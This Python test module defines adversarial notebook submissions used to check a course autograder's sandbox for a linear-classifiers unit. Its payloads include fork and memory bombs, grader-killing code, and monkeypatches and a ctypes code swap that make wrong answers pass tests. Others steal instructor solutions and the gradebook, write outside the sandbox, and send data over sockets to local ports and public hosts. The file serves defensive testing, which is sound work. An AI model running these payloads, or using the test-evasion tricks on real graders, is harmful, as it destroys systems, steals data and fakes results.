"""Attack submissions against unit 01 (linear classifiers).

Most attacks sit on one of two bases:

* ``full``: the full solution, with one solution cell replaced by the attack
  (it deserves everything except that task: ``AUTO - points[task]``), or with
  an extra attack cell (it deserves at most ``AUTO``, and the attack must not
  reach anything outside its sandbox);
* ``wrong``: every task answered by a plausible wrong implementation (one
  mutant per task from ``tests/mutants/unit01.py``, each failing its hidden
  tests), plus an attack that tries to make the tests pass anyway: it
  deserves 0.

Points are read from the instructor's notebook: ``POINTS`` (the ten code tasks), ``AUTO`` their sum,
what autograding can give (the written questions ``q1_K`` are graded by hand and score 0 here).
"""
from __future__ import annotations

import copy
import json
import os
import re

import nbformat

from tests.attacks import Attack, Context

UNIT = "01_linear_classifiers"
NOTEBOOK = f"{UNIT}.ipynb"


def _grade_cells() -> dict[str, int]:
    """grade id without ``test_`` -> points, in notebook order (code tasks and written questions)."""
    from pathlib import Path

    nb = json.loads((Path(__file__).resolve().parents[2] / "solutions" / UNIT / NOTEBOOK).read_text(encoding="utf-8"))
    out = {}
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            out[meta["grade_id"].removeprefix("test_")] = meta["points"]
    return out


POINTS = {t: p for t, p in _grade_cells().items() if t.startswith("task")}
WRITTEN_ZERO = {q: 0.0 for q in _grade_cells() if q.startswith("q")}
TASKS = list(POINTS)
AUTO = sum(POINTS.values())                              # the most autograding gives (82)
BUT_1_4 = AUTO - POINTS["task1_4"]                       # everything right but task1_4
UP_TO_1_3 = sum(POINTS[t] for t in TASKS[:3])            # the tasks before task1_4, graded before a kernel death

# ---------------------------------------------------------------- building blocks


def wrong_sources() -> dict[str, str]:
    """task -> one wrong implementation (the first mutant of the task that is not a shortcut)."""
    from tests.mutants.unit01 import MUTANTS

    out = {}
    for m in MUTANTS:
        if m.task not in out and not any(w in m.name for w in ("uses", "calls", "torch", "library")):
            out[m.task] = m.source
    return out


def _with(ctx: Context, sources: dict):
    from autograder import synth

    return synth.with_sources(ctx.release, sources)


def full(ctx: Context, **over):
    return _with(ctx, {**ctx.solutions, **over})


def wrong(ctx: Context, **over):
    """Every task wrong; without the closing ungraded cells (a student may delete those), whose
    hyper-parameter search would only spend its 15 s on wrong functions."""
    nb = _with(ctx, {**ctx.wrong, **over})
    last = max(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade"))
    nb.cells = nb.cells[:last + 1] + [c for c in nb.cells[last + 1:] if c.cell_type != "code"]
    return nb


def _index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def insert_after(nb, grade_id: str, source: str):
    """A copy of ``nb`` with an ordinary (student) code cell after the cell ``grade_id``."""
    nb = copy.deepcopy(nb)
    nb.cells.insert(_index(nb, grade_id) + 1, nbformat.v4.new_code_cell(source))
    return nb


def files(nb) -> dict:
    return {NOTEBOOK: nbformat.writes(nb)}


def _func_name(src: str) -> str:
    return re.search(r"^def (\w+)\(", src, re.M).group(1)


def wrap_wrong(ctx: Context, body: str):
    """Wrong implementations, each wrapped so that ``body`` runs whenever a test calls it."""
    srcs = {}
    for task, src in ctx.wrong.items():
        fn = _func_name(src)
        srcs[task] = (src + f"\n\n_orig_{fn} = {fn}\n\n\ndef {fn}(*args, **kwargs):\n"
                      + "".join(f"    {ln}\n" for ln in body.strip().splitlines())
                      + f"    return _orig_{fn}(*args, **kwargs)\n")
    return wrong(ctx, **srcs)


def test_cells(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def minus(ctx: Context, *tasks) -> float:
    return AUTO - sum(ctx.points[t] for t in tasks)


NOOP_HELPERS = (
    "import contextlib\n"
    "assert_close = lambda *a, **k: None\n"
    "assert_shape = lambda *a, **k: None\n"
    "check_gradient = lambda *a, **k: None\n"
    "forbid_calls = lambda *a, **k: contextlib.nullcontext()\n"
)

# ---------------------------------------------------------------- resource attacks (full solution, task1_4 replaced)


def _in_task(code: str, task: str = "task1_4", keep_solution: bool = False):
    def build(ctx):
        src = (ctx.solutions[task] + "\n\n" + code) if keep_solution else code
        return files(full(ctx, **{task: src}))
    return build


SIGINT_LOOP = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
FORK_BOMB = "import os\nwhile True:\n    os.fork()"
MEMORY_BOMB = "a = []\nwhile True:\n    a.append(bytearray(10**7))"
FLOOD = "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(300):\n    sys.stdout.write(chunk)\nprint('done')"
KILL_GRADER = """import os, signal
for target in (lambda: os.kill(os.getppid(), signal.SIGKILL),
               lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
               lambda: os.kill(1, signal.SIGKILL)):
    try:
        target()
    except OSError as exc:
        print('blocked:', exc)
"""

# ---------------------------------------------------------------- monkeypatching (wrong answers + a patch)

PATCH_NUMPY = """import numpy as np
import numpy.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.max = lambda *a, **k: 0.0
np.abs = lambda x, *a, **k: x * 0
np.isnan = lambda x, *a, **k: np.zeros(np.shape(x), dtype=bool)
np.isinf = lambda x, *a, **k: np.zeros(np.shape(x), dtype=bool)
"""

PATCH_GRADING_MODULE = """import course_lib.grading as G
noop = lambda *a, **k: None
G.assert_close, G.assert_shape, G.check_gradient = noop, noop, noop
try:
    G._assert_close.__code__ = noop.__code__
except Exception as exc:
    print('blocked:', type(exc).__name__)
try:
    G.assert_close.__kwdefaults__['atol'] = 1e300
except Exception as exc:
    print('blocked:', type(exc).__name__)
"""

PATCH_BUILTINS = """import builtins
class _Quiet(Exception):
    pass
builtins.AssertionError = _Quiet
builtins.all = lambda *a: True
builtins.any = lambda *a: False
_print = builtins.print
builtins.print = lambda *a, **k: _print('Task passed.')
"""

PATCH_TRACEBACK = """import sys
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
sys.excepthook = lambda *a: None
"""

PATCH_SEED = """import numpy as np, random
np.random.seed = lambda *a, **k: None
random.seed = lambda *a, **k: None
_rng = np.random.default_rng
np.random.default_rng = lambda *a, **k: _rng(0)
"""

# ctypes: read the grading helpers' memory directly (audited: refused), then swap their code with
# memmove, which no audit event covers (the guard compares every guarded function's __code__).
CTYPES_SWAP = """import ctypes
import course_lib.grading as _g
try:
    ctypes.string_at(id(_g.assert_close), 64)
except PermissionError as e:
    print("refused:", e)
def _noop(*a, **k):
    return None
_keep = []
for _f in (_g.assert_close, _g.assert_shape, _g.check_gradient):
    _new = _noop.__code__.replace(co_name=_f.__code__.co_name)
    _keep += [_new] * 8  # references the function will not hold
    _ptr = ctypes.c_void_p(id(_new))
    ctypes.memmove(id(_f) + 48, ctypes.byref(_ptr), 8)  # PyFunctionObject.func_code (CPython 3.11)
print(_g.assert_close.__code__ is _new)
"""

PATCH_AST = """import ast
class _Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
    def visit_Call(self, node):
        self.generic_visit(node)
        f = node.func
        if isinstance(f, ast.Name) and f.id.startswith(('assert_', 'check_')):
            return ast.Constant(None)
        return node
get_ipython().ast_transformers.append(_Strip())
"""

PATCH_INPUT = """def _blank_tests(lines):
    text = ''.join(lines)
    return ['pass\\n'] if ('tests' in text and 'def ' not in text.split('\\n')[0]) else lines
get_ipython().input_transformers_post.append(_blank_tests)
get_ipython().input_transformers_cleanup.append(_blank_tests)
"""

PATCH_EVENTS = """ip = get_ipython()
def _again(*a, **k):
    ip.user_ns.update(assert_close=lambda *a, **k: None, assert_shape=lambda *a, **k: None,
                      check_gradient=lambda *a, **k: None)
ip.events.register('pre_run_cell', _again)
ip.events.register('pre_execute', _again)
"""

MID_TEST = """import contextlib, numpy as _np
g = globals()
g['assert_close'] = lambda *a, **k: None
g['assert_shape'] = lambda *a, **k: None
g['check_gradient'] = lambda *a, **k: None
g['forbid_calls'] = lambda *a, **k: contextlib.nullcontext()
_np.allclose = lambda *a, **k: True
"""

THREAD = """import threading, time, contextlib
import numpy as np
def _keep_patching():
    ns = get_ipython().user_ns
    while True:
        ns['assert_close'] = ns['assert_shape'] = ns['check_gradient'] = (lambda *a, **k: None)
        ns['forbid_calls'] = lambda *a, **k: contextlib.nullcontext()
        np.allclose = lambda *a, **k: True
        time.sleep(0.0005)
threading.Thread(target=_keep_patching, daemon=True).start()
"""

TRACE_AND_HUNT = """import sys, gc
def _tracer(frame, event, arg):
    if frame.f_code.co_filename != __file__ and 'assert_close' in frame.f_globals:
        frame.f_globals['assert_close'] = lambda *a, **k: None
    return _tracer
for attempt in (lambda: sys.settrace(_tracer), lambda: sys.setprofile(_tracer),
                lambda: [o for o in gc.get_objects() if callable(o) and 'guard' in getattr(o, '__qualname__', '')],
                lambda: sys.addaudithook(lambda *a: None)):
    try:
        attempt()
    except Exception as exc:
        print('blocked:', type(exc).__name__)
sys.audit = lambda *a: None
"""

SIGNAL = """import signal
def _patch(*a):
    get_ipython().user_ns.update(assert_close=lambda *a, **k: None, assert_shape=lambda *a, **k: None,
                                 check_gradient=lambda *a, **k: None)
signal.signal(signal.SIGALRM, _patch)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
"""

FAKE_COURSE_LIB = {
    "course_lib/__init__.py": "",
    "course_lib/grading.py": (
        "import contextlib\n"
        "def assert_close(*a, **k): pass\n"
        "def assert_shape(*a, **k): pass\n"
        "def check_gradient(*a, **k): pass\n"
        "def forbid_calls(*a, **k): return contextlib.nullcontext()\n"
        "def rel_error(*a, **k): return 0.0\n"),
    "course_lib/data.py": "from importlib import import_module as _i\n",
    "json.py": "raise SystemExit('a submitted json.py ran inside the kernel')\n",
    "sitecustomize.py": "import builtins; builtins.all = lambda *a: True\n",
}

# ---------------------------------------------------------------- disk and network

STEAL_SOURCES = r'''import glob, json, os, sqlite3, subprocess
_stolen = {}
def _take(cells):
    for gid, src in cells:
        if 'BEGIN SOLUTION' in src:
            _stolen[gid] = '\n'.join(l for l in src.split('\n') if 'SOLUTION' not in l)
try:
    import course_lib
    roots = [os.path.dirname(os.path.dirname(course_lib.__file__))]
except Exception:
    roots = []
try:
    roots.append(os.readlink('/proc/%d/cwd' % os.getppid()))
except OSError:
    pass
for root in roots + ['/work/main', '..', '../..']:
    for pat in ('solutions/*/*.ipynb', 'source/*/*.ipynb', 'instance/source/*/*.ipynb'):
        for p in glob.glob(os.path.join(root, pat)):
            try:
                nb = json.load(open(p))
                _take([(c.get('metadata', {}).get('nbgrader', {}).get('grade_id'), ''.join(c['source']))
                       for c in nb['cells']])
            except Exception as exc:
                print('blocked:', type(exc).__name__)
    try:
        out = subprocess.run(['git', '-C', root, 'show', 'HEAD:solutions/01_linear_classifiers/01_linear_classifiers.ipynb'],
                             capture_output=True, text=True, timeout=5).stdout
        nb = json.loads(out)
        _take([(c['metadata'].get('nbgrader', {}).get('grade_id'), ''.join(c['source'])) for c in nb['cells']])
    except Exception as exc:
        print('git blocked:', type(exc).__name__)
_dbs = [p for d in range(1, 6) for p in glob.glob('/tmp/' + '*/' * d + 'gradebook.db')]
for db in _dbs[:20] + [os.path.join(r, 'instance/gradebook.db') for r in roots]:
    try:
        con = sqlite3.connect(db)
        _take(con.execute('select name, source from source_cell').fetchall())
    except Exception as exc:
        print('db blocked:', type(exc).__name__)
print('stole', sorted(_stolen))
'''

WRITE_OUTSIDE = r'''import glob, os, sqlite3
hits = []
def _try(what, fn):
    try:
        fn()
        hits.append(what)
    except Exception as exc:
        print('blocked', what, type(exc).__name__)
try:
    import course_lib
    repo = os.path.dirname(os.path.dirname(course_lib.__file__))
except Exception:
    repo = '/work/main'
_try('repo', lambda: open(os.path.join(repo, 'course_lib', 'pwned_by_attack.py'), 'w').write('x = 1\n'))
_try('tmp', lambda: open('/tmp/pwned_by_attack.txt', 'w').write('x'))
_deep = lambda tail: [p for d in range(0, 5) for p in glob.glob('/tmp/' + '*/' * d + tail)]
for nb in _deep('submitted/*/01_linear_classifiers/*.ipynb')[:50]:
    _try(nb, lambda: open(nb, 'a').write('garbage'))
for db in _deep('gradebook.db')[:20]:
    _try(db, lambda: sqlite3.connect(db).execute('update grade set manual_score = 100').connection.commit())
print('wrote', hits)
'''


def socket_attack(ctx: Context) -> str:
    return f'''import socket
reached = []
ports = {{{ctx.canary_port}}}
for path in ('/proc/net/tcp', '/proc/net/tcp6'):
    try:
        for line in open(path).read().splitlines()[1:]:
            f = line.split()
            if f[3] == '0A':
                ports.add(int(f[1].split(':')[1], 16))
    except OSError:
        pass
for host, port in [('127.0.0.1', p) for p in sorted(ports)[:200]] + [('1.1.1.1', 53), ('8.8.8.8', 53)]:
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.sendall(b'PWNED')
        s.close()
        reached.append((host, port))
    except OSError:
        pass
print('reached', reached)
'''


def _steal_build(ctx):
    # every solution cell runs whatever it could steal for its own task
    srcs = {t: f"exec(_stolen.get({t!r}, 'raise NotImplementedError()'))" for t in TASKS}
    return files(insert_after(_with(ctx, srcs), "setup", STEAL_SOURCES))


# ---------------------------------------------------------------- tampering (wrong answers + tampered cells)


def _tamper(fn, base=wrong):
    def build(ctx):
        nb = copy.deepcopy(base(ctx))
        fn(nb)
        return files(nb)
    return build


def _skip_tests(nb):
    for c in test_cells(nb):
        c.metadata.setdefault("tags", []).append("skip-execution")  # nbclient's opt-out tag


def _locked_to_pass(nb):
    for c in test_cells(nb):
        c.source = "pass"


def _rename_ids(nb):
    for c in test_cells(nb):
        c.metadata.nbgrader["grade_id"] += "_x"
        c.source = "pass"


def _demote(nb):
    for c in test_cells(nb):
        c.metadata.pop("nbgrader")
        c.source = "pass"


def _to_markdown(nb):
    for i, c in enumerate(nb.cells):
        if c.metadata.get("nbgrader", {}).get("grade"):
            md = nbformat.v4.new_markdown_cell(c.source, metadata=c.metadata)
            md.metadata.nbgrader["cell_type"] = "markdown"
            nb.cells[i] = md


def _metadata(nb):
    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
    nb.metadata["nbgrader"] = {"total_points": 1000}
    for c in test_cells(nb):
        c.metadata.nbgrader["points"] = 1000
        c.metadata.nbgrader["solution"] = True
        c.metadata.nbgrader["locked"] = False
        c.source = "pass"


def _delete(nb):
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _duplicate(nb):
    out = []
    for c in nb.cells:
        out.append(c)
        if c.metadata.get("nbgrader", {}).get("grade"):
            dup = copy.deepcopy(c)
            dup.source = "pass"
            dup["id"] = nbformat.v4.new_code_cell().id  # JupyterLab gives a pasted cell a new id
            out.append(dup)  # nbgrader would keep this last copy; the grader keeps the first, never runs this one
    nb.cells = out


def _duplicate_solutions(ctx):
    """Each solution cell pasted above itself with a wrong version in the copy (a student's earlier try):
    the last copy, the right one, is what the tests must see."""
    nb = full(ctx)
    out = []
    for c in nb.cells:
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if c.metadata.get("nbgrader", {}).get("solution") and gid in ctx.wrong:
            first = copy.deepcopy(c)
            first.source = ctx.wrong[gid]
            first["id"] = nbformat.v4.new_code_cell().id
            out.append(first)
        out.append(c)
    nb.cells = out
    return files(nb)


def _reorder(nb):
    tests = test_cells(nb)
    rest = [c for c in nb.cells if c not in tests]
    patch = nbformat.v4.new_code_cell("import course_lib.grading as G\nG.assert_close = lambda *a, **k: None\n"
                                      "G.assert_shape = lambda *a, **k: None\nG.check_gradient = lambda *a, **k: None")
    nb.cells = [patch] + rest[1:] + [rest[0]] + tests[::-1]  # patch first, setup after the answers, tests reversed


def _edit_setup(nb):
    setup = nb.cells[_index(nb, "setup")]
    setup.source += "\n" + NOOP_HELPERS


# ---------------------------------------------------------------- malformed files


def _huge(ctx):
    nb = full(ctx)
    nb.cells[-1].outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * (300 * 2**20))]
    return files(nb)


def _wrong_version(ctx):
    d = json.loads(nbformat.writes(full(ctx)))
    d["nbformat"] = 99
    return {NOTEBOOK: json.dumps(d)}


# ---------------------------------------------------------------- the list

R, P, D, T, M = "resource", "monkeypatch", "disk", "tamper", "malformed"

ATTACKS = [
    # resources and the kernel: everything but task1_4 is right, so at most BUT_1_4
    Attack("loop", R, _in_task("while True:\n    pass"), BUT_1_4, BUT_1_4, ("timeout",), "infinite loop in task1_4"),
    # a kernel that ignores the interrupt is replaced: the cells before it run again in a fresh one, grading goes on
    Attack("loop_sigint", R, _in_task(SIGINT_LOOP), BUT_1_4, BUT_1_4, ("timeout",), "infinite loop that ignores the interrupt"),
    Attack("loop_sigint_before_test", R, lambda ctx: files(insert_after(full(ctx), "task1_2", SIGINT_LOOP)), AUTO, AUTO,
           ("timeout",), "an extra cell between task1_2 and its test ignores the interrupt and loops"),
    Attack("patch_then_loop_sigint", P, lambda ctx: files(insert_after(wrong(ctx, task1_4=SIGINT_LOOP), "setup",
                                                                      NOOP_HELPERS)), 0, 0, ("timeout",),
           "no-op test helpers, then a loop that ignores the interrupt: the fresh kernel must be guarded too"),
    Attack("sleep", R, _in_task("import time\ntime.sleep(3600)"), BUT_1_4, BUT_1_4, ("timeout",), "sleep past the cell timeout"),
    Attack("memory_bomb", R, _in_task(MEMORY_BOMB), BUT_1_4, UP_TO_1_3, ("kernel_died",), "while True: a.append(...)"),
    Attack("fork_bomb", R, _in_task(FORK_BOMB), BUT_1_4, UP_TO_1_3, (), "fork bomb"),
    Attack("os_exit", R, _in_task("import os\nos._exit(0)"), BUT_1_4, UP_TO_1_3, ("kernel_died",), "os._exit in a solution cell"),
    Attack("sys_exit", R, _in_task("import sys\nsys.exit(0)"), BUT_1_4, BUT_1_4, (), "sys.exit in a solution cell"),
    Attack("kill_kernel", R, _in_task("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), BUT_1_4, UP_TO_1_3,
           ("kernel_died",), "the kernel kills itself"),
    Attack("kill_grader", R, lambda ctx: files(insert_after(full(ctx), "setup", KILL_GRADER)), AUTO, AUTO, ("ok",),
           "kill the grading process and its group"),
    Attack("output_flood", R, _in_task(FLOOD, keep_solution=True), AUTO, UP_TO_1_3, (), "300 MB printed"),
    # monkeypatching: every answer is wrong, the patch tries to make the tests pass anyway
    Attack("patch_numpy", P, lambda ctx: files(insert_after(wrong(ctx), "setup", PATCH_NUMPY)), 0, 0, (),
           "np.allclose / np.testing / np.max / np.abs replaced"),
    Attack("patch_names", P, lambda ctx: files(insert_after(wrong(ctx), "setup", NOOP_HELPERS)), 0, 0, (),
           "assert_close, assert_shape, check_gradient, forbid_calls rebound to no-ops"),
    Attack("patch_grading_module", P, lambda ctx: files(insert_after(wrong(ctx), "setup", PATCH_GRADING_MODULE)), 0, 0,
           (), "course_lib.grading attributes, __code__ and __kwdefaults__ replaced"),
    Attack("patch_builtins", P, lambda ctx: files(insert_after(wrong(ctx), "setup", PATCH_BUILTINS)), 0, 0, (),
           "builtins AssertionError / all / any / print replaced"),
    Attack("patch_traceback", P, lambda ctx: files(insert_after(wrong(ctx), "setup", PATCH_TRACEBACK)), 0, 0, (),
           "showtraceback, custom exception handler, sys.excepthook disabled (nbgrader #1324)"),
    Attack("ctypes_code_swap", P, lambda ctx: files(insert_after(wrong(ctx), "setup", CTYPES_SWAP)), 0, 0, (),
           "ctypes.memmove swaps the grading helpers' code"),
    Attack("patch_seed", P, lambda ctx: files(insert_after(wrong(ctx), "setup", PATCH_SEED)), 0, 0, (),
           "np.random.seed / default_rng / random.seed replaced"),
    Attack("patch_ast", P, lambda ctx: files(insert_after(wrong(ctx), "setup", PATCH_AST)), 0, 0, (),
           "an AST transformer strips asserts and raises from later cells"),
    Attack("patch_input", P, lambda ctx: files(insert_after(wrong(ctx), "setup", PATCH_INPUT)), 0, 0, (),
           "an input transformer turns test cells into `pass`"),
    Attack("patch_events", P, lambda ctx: files(insert_after(wrong(ctx), "setup", PATCH_EVENTS)), 0, 0, (),
           "a pre_run_cell callback re-patches before every cell"),
    Attack("patch_mid_test", P, lambda ctx: files(wrap_wrong(ctx, MID_TEST)), 0, 0, (),
           "the graded functions themselves rebind assert_close and patch numpy while the test runs"),
    Attack("patch_thread", P, lambda ctx: files(insert_after(wrong(ctx), "setup", THREAD)), 0, 0, (),
           "a background thread keeps re-patching"),
    Attack("patch_signal", P, lambda ctx: files(insert_after(wrong(ctx), "setup", SIGNAL)), 0, 0, (),
           "a 1 ms interval timer re-patches from a signal handler"),
    Attack("trace_and_hunt", P, lambda ctx: files(insert_after(wrong(ctx), "setup", TRACE_AND_HUNT)), 0, 0, (),
           "sys.settrace / setprofile / gc.get_objects / addaudithook / sys.audit replaced"),
    Attack("fake_partial_credit", P, lambda ctx: files(wrap_wrong(ctx, "import sys as _s\n_s.displayhook(8)")), 0, 0,
           (), "sys.displayhook(8) from inside the graded function: an execute_result before the error"),
    Attack("fake_pass_text", P, lambda ctx: files(wrap_wrong(
        ctx, "print('Task 1.x: visible tests passed.')\nprint('All hidden tests passed. Score: 100/100')")), 0, 0, (),
           "prints text that looks like a pass"),
    Attack("shadow_modules", P, lambda ctx: {**files(wrong(ctx)), **FAKE_COURSE_LIB}, 0, 0, (),
           "submitted course_lib/, json.py, sitecustomize.py shadow the real modules"),
    # reading and writing what it must not
    Attack("steal_solutions", D, _steal_build, 0, 0, (),
           "reads the solutions (repo, instance source, git history, gradebook) and execs them"),
    Attack("write_outside", D, lambda ctx: files(insert_after(full(ctx), "setup", WRITE_OUTSIDE)), AUTO, AUTO, (),
           "writes into the repo, /tmp, other submissions and the gradebook", ("no_writes",)),
    Attack("socket", D, lambda ctx: files(insert_after(_with(ctx, {}), "setup", socket_attack(ctx))), 0, 0, (),
           "connects to every listening port and the internet", ("no_connections",)),
    # tampering with the notebook
    Attack("locked_cells_pass", T, _tamper(_locked_to_pass), 0, 0, (), "test cells edited to `pass`"),
    Attack("grade_ids_changed", T, _tamper(_rename_ids), 0, 0, (), "test cells renamed and emptied"),
    Attack("grade_cells_demoted", T, _tamper(_demote), 0, 0, (), "nbgrader metadata removed from test cells"),
    Attack("cell_types_changed", T, _tamper(_to_markdown), 0, 0, (), "test cells turned into markdown"),
    Attack("metadata_changed", T, _tamper(_metadata), 0, 0, (), "points 1000, solution flag, unlocked, kernelspec"),
    Attack("tests_skipped", T, _tamper(_skip_tests), 0, 0, (), "test cells tagged skip-execution"),
    Attack("cells_deleted", T, _tamper(_delete), 0, 0, (), "test cells deleted"),
    Attack("cells_duplicated", T, _tamper(_duplicate), 0, 0, ("ok",), "test cells duplicated as `pass`"),
    # duplicated cells on a full solution (copy/paste in JupyterLab): graded as if not duplicated
    Attack("cells_duplicated_full", T, _tamper(_duplicate, base=full), AUTO, AUTO, ("ok",),
           "full solution, test cells duplicated as `pass`"),
    Attack("solutions_duplicated", T, _duplicate_solutions, AUTO, AUTO, ("ok",),
           "full solution, each solution cell pasted above itself with a wrong earlier version"),
    Attack("cells_reordered", T, _tamper(_reorder), 0, 0, (), "patch before setup, setup last, tests reversed"),
    Attack("setup_edited", T, _tamper(_edit_setup), 0, 0, (), "the locked setup cell defines no-op helpers"),
    # malformed files
    Attack("invalid_json", M, lambda ctx: {NOTEBOOK: '{"cells": [ this is not json'}, 0, 0, ("error",)),
    Attack("wrong_nbformat", M, _wrong_version, 0, 0, ("error",), "nbformat 99"),
    Attack("json_array", M, lambda ctx: {NOTEBOOK: "[1, 2, 3]"}, 0, 0, ("error",)),
    Attack("empty_file", M, lambda ctx: {NOTEBOOK: ""}, 0, 0, ("error",)),
    Attack("binary_garbage", M, lambda ctx: {NOTEBOOK: os.urandom(1 << 16)}, 0, 0, ("error",)),
    Attack("missing_notebook", M, lambda ctx: {"README.txt": "I forgot to attach it"}, 0, 0, ("missing",)),
    Attack("renamed_notebook", M, lambda ctx: {"my_solution.ipynb": nbformat.writes(full(ctx))}, 0, 0, ("missing",)),
    Attack("notebook_is_a_dir", M, lambda ctx: {f"{NOTEBOOK}/x.txt": "a directory"}, 0, 0, ("missing", "error")),
    Attack("symlink_to_source", M, lambda ctx: {NOTEBOOK: ("symlink", ctx.source_path)}, 0, 0, ("missing", "error"),
           "the notebook is a symlink to the instructor's source"),
    Attack("huge_notebook", M, _huge, 0, 0, ("missing", "error"), "a 300 MB notebook"),
    Attack("extra_files", M, lambda ctx: {**files(full(ctx)), "data/blob.bin": os.urandom(1 << 20),
                                          "notes.txt": "scratch", "sub/dir/x.py": "print(1)"}, AUTO, AUTO, ("ok",),
           "extra files beside a full solution"),
]



def mutant(task: str, name: str) -> str:
    """The source of the named mutant of ``task`` in ``tests/mutants/unit01.py``."""
    from tests.mutants.unit01 import MUTANTS

    found = [m.source for m in MUTANTS if m.task == task and m.name == name]
    if len(found) != 1:
        raise LookupError(f"{len(found)} mutants of {task} named {name!r} in tests/mutants/unit01.py")
    return found[0]


def _one_wrong(task: str, name: str):
    """The full solution with ``task`` replaced by the named mutant (as a student would hand it in)."""
    return lambda ctx: files(full(ctx, **{task: mutant(task, name)}))


# ordinary submissions graded in the same run: their grade must be exact
HONEST = [
    Attack("honest_full", "honest", lambda ctx: files(full(ctx)), AUTO, AUTO, ("ok",)),
    Attack("honest_mutant", "honest", lambda ctx: files(full(ctx, task1_5=ctx.wrong["task1_5"])),
           AUTO - POINTS["task1_5"], AUTO - POINTS["task1_5"], ("ok",)),
    Attack("honest_partial", "honest", lambda ctx: files(_with(ctx, {t: ctx.solutions[t] for t in TASKS[:5]})),
           sum(POINTS[t] for t in TASKS[:5]), sum(POINTS[t] for t in TASKS[:5]), ("ok",)),
    # the wrong answers issue 2 names, each alone in an otherwise full solution: only its task is lost
    Attack("honest_softmax_no_max", "honest", _one_wrong("task1_7", "forgot to subtract the max"), AUTO - POINTS["task1_7"], AUTO - POINTS["task1_7"], ("ok",),
           "softmax without subtracting the row max (overflows on large scores)"),
    Attack("honest_np_max", "honest", _one_wrong("task1_5", "np.max for np.maximum in the hinge"), AUTO - POINTS["task1_5"], AUTO - POINTS["task1_5"], ("ok",),
           "np.max(0, margins) for np.maximum(0, margins)"),
    Attack("honest_no_reg_grad", "honest", _one_wrong("task1_4", "missing regularisation gradient"), AUTO - POINTS["task1_4"], AUTO - POINTS["task1_4"], ("ok",),
           "the 2 * reg * W term left out of dW"),
    Attack("honest_wrong_axis", "honest", _one_wrong("task1_5", "averaging over the wrong axis"), AUTO - POINTS["task1_5"], AUTO - POINTS["task1_5"], ("ok",),
           "hinge loss averaged over classes, not over the batch"),
    Attack("honest_blank", "honest", lambda ctx: files(_with(ctx, {})), 0, 0, ("ok",),
           "the release as given, nothing filled in"),
]

# the points each task of an honest submission must get (the attack suite checks only the totals); the
# written questions are left to the instructor, so autograding records 0 for them
HONEST_TASK_POINTS = {
    "honest_full": {**POINTS, **WRITTEN_ZERO},
    "honest_softmax_no_max": {**POINTS, "task1_7": 0, **WRITTEN_ZERO},
    "honest_np_max": {**POINTS, "task1_5": 0, **WRITTEN_ZERO},
    "honest_no_reg_grad": {**POINTS, "task1_4": 0, **WRITTEN_ZERO},
    "honest_wrong_axis": {**POINTS, "task1_5": 0, **WRITTEN_ZERO},
    "honest_blank": {**dict.fromkeys(TASKS, 0), **WRITTEN_ZERO},
}
